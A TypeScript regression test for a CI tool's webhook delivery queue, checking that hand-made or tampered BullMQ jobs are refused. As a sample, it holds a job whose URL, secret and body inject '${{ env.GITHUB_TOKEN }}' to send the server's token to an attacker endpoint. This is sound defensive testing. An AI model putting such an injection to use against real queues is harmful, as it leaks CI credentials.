import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Queue } from 'bullmq';
import { Redis } from 'ioredis';
import { Webhook } from 'standardwebhooks';
import { makeRepo, type TestRepo } from '../helpers/git.ts';
import { whsec } from '../helpers/payloads.ts';
import { startReceiver, waitFor, type Received } from '../helpers/receiver.ts';
import { startRedis, type TestRedis } from '../helpers/redis.ts';
import { startServer, type TestServer } from '../helpers/server.ts';
import { pushBuild } from '../helpers/push-build.ts';

type Receiver = Awaited<ReturnType<typeof startReceiver>>;
const headersOf = (r: Received) => ({
  'webhook-id': String(r.headers['webhook-id']),
  'webhook-timestamp': String(r.headers['webhook-timestamp']),
  'webhook-signature': String(r.headers['webhook-signature']),
});

/**
 * #16: a delivery job is data, never a template. Through Bull Board's "add job" a job whose URL held
 * `${{ env.GITHUB_TOKEN }}` used to be expanded from the server's environment and sent out.
 */
describe('delivery jobs name their endpoint by reference', () => {
  let redis: TestRedis;
  let repo: TestRepo;
  let server: TestServer;
  let queue: Queue;
  let conn: Redis;
  let attacker: Receiver;
  let global: Receiver;
  let pipelineReceiver: Receiver;
  const token = `ghp_${'s3cr3t'.repeat(6)}`;
  const globalSecret = whsec();
  const pipelineSecret = whsec();

  before(async () => {
    redis = await startRedis();
    repo = makeRepo();
    attacker = await startReceiver();
    global = await startReceiver();
    pipelineReceiver = await startReceiver();
    server = await startServer(
      redis,
      {
        'web.yml': `repository: octo-org/web\nclone-url: ${repo.dir}\non: push\njobs:\n  j:\n    steps:\n      - run: 'true'\nnotify:\n  - url: ${pipelineReceiver.url}\n    secret: \${{ env.CB }}\n    events: [build.completed]\n`,
      },
      {
        GITHUB_WEBHOOK_SECRET: 's',
        GITHUB_TOKEN: token,
        CB: pipelineSecret,
        PUSHCI_NOTIFY_URLS: global.url,
        PUSHCI_NOTIFY_SECRET: globalSecret,
      },
    );
    conn = new Redis(redis.url, { maxRetriesPerRequest: null });
    queue = new Queue('deliveries', { connection: conn, prefix: redis.prefix });
  });
  after(async () => {
    await queue?.close();
    conn?.disconnect();
    await server?.close();
    for (const r of [attacker, global, pipelineReceiver]) await r?.close();
    await redis?.stop();
  });

  const finalState = (id: string) =>
    waitFor(
      async () => {
        const state = await (await queue.getJob(id))?.getState();
        if (state !== 'failed' && state !== 'completed') return null;
        return { state, reason: (await queue.getJob(id))!.failedReason };
      },
      10_000,
      `job ${id} to finish`,
    );

  it('control: a real build is delivered to the pipeline and global endpoints, and verifies', async () => {
    const id = await pushBuild(server, { name: 'web', sha: repo.commits[0]!, secret: 's' });
    await waitFor(() => pipelineReceiver.got.length === 1, 15_000, 'the pipeline endpoint');
    await waitFor(() => global.got.length === 3, 15_000, 'the global endpoint');
    const m = pipelineReceiver.got[0]!;
    const event = new Webhook(pipelineSecret).verify(m.body, headersOf(m)) as any;
    assert.equal(event.data.build.id, id);
    for (const g of global.got) new Webhook(globalSecret).verify(g.body, headersOf(g));
  });

  it('refuses a job in the old shape whose URL and secret are templates of the server environment', async () => {
    await queue.add(
      'build.completed',
      {
        kind: 'webhook',
        msgId: 'msg_evil_template',
        type: 'build.completed',
        buildId: 'evil',
        pipeline: 'web',
        endpointId: 'evil',
        target: 'evil',
        url: `${attacker.url}?t=\${{ env.GITHUB_TOKEN }}`,
        secrets: ['${{ env.GITHUB_TOKEN }}'],
        global: false,
        body: '{"token":"${{ env.GITHUB_TOKEN }}"}',
      },
      { jobId: 'msg_evil_template' },
    );
    const done = await finalState('msg_evil_template');
    assert.equal(done.state, 'failed');
    assert.match(done.reason, /not queued by pushci/);
    assert.ok(
      server.logs.some((l) => String(l.msg).includes('not queued by pushci')),
      'the refusal is logged',
    );
  });

  it('refuses a hand-made job that names a real endpoint, and a real job whose body was edited', async () => {
    const real = (await queue.getJobs(['completed'])).find((j) => j.data.endpoint?.kind === 'global')!;
    await queue.add(
      'build.completed',
      {
        kind: 'webhook',
        msgId: 'msg_evil_forged',
        type: 'build.completed',
        buildId: 'evil',
        pipeline: 'web',
        endpointId: 'evil',
        target: 'evil',
        endpoint: { kind: 'global', id: real.data.endpointId },
        body: '{"type":"build.completed","data":{"build":{"status":"success","sha":"evil"}}}',
        seal: 'AAAA',
      },
      { jobId: 'msg_evil_forged' },
    );
    // A real message, copied with a different body: its seal no longer matches.
    await queue.add(
      'build.completed',
      { ...real.data, msgId: 'msg_evil_edited', body: real.data.body.replace('"success"', '"failure"') },
      { jobId: 'msg_evil_edited' },
    );
    for (const id of ['msg_evil_forged', 'msg_evil_edited']) {
      const done = await finalState(id);
      assert.equal(done.state, 'failed', id);
      assert.match(done.reason, /not queued by pushci/, id);
    }
    // Nothing was written into the delivery log under those ids either.
    const h = await conn.hgetall(`${redis.prefix}:delivery:msg_evil_edited`);
    assert.deepEqual(h, {});
  });

  it('sent nothing to the attacker, and the token appears in no request anyone received', async () => {
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(attacker.got.length, 0);
    assert.equal(global.got.length, 3, 'the global endpoint got only the real build');
    for (const r of [...attacker.got, ...global.got, ...pipelineReceiver.got]) {
      assert.ok(!r.body.includes(token));
      assert.ok(!JSON.stringify(r.headers).includes(token));
    }
  });
});
